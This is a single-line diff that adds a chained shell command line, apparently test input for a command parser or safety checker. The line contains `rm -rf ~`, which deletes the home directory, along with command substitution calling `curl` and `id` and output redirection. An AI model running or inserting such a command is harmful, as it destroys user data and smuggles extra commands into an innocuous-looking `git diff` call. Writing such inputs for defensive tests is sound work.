@@ -1,0 +1,1 @@
+git diff; rm -rf ~ && echo $(curl x) | tee `id` > out 2>&1
